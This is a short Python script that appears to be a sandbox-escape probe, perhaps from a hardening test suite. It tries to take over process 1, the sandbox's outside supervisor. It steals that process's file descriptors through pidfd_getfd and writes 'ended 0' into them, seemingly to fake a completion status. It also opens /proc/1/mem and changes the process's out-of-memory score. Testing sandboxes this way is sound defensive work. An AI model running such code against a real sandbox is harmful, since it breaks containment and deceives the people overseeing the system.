"""Reaches into process 1 of the sandbox, which came from outside: descriptors, memory, descriptors by pidfd."""

import ctypes
from kit import *

libc = ctypes.CDLL(None, use_errno=True)
pidfd = attempt(os.pidfd_open, 1)
for number in range(64):
    if isinstance(pidfd, int):
        fd = libc.syscall(438, pidfd, number, 0)
        if fd >= 0:
            attempt(os.write, fd, b"ended 0")
            attempt(lambda: os.write(1, os.read(fd, 100)))
    attempt(lambda: os.write(os.open(f"/proc/1/fd/{number}", os.O_RDWR), b"ended 0"))
attempt(lambda: open("/proc/1/mem", "r+b"))
attempt(lambda: open("/proc/1/oom_score_adj", "w").write("-1000"))
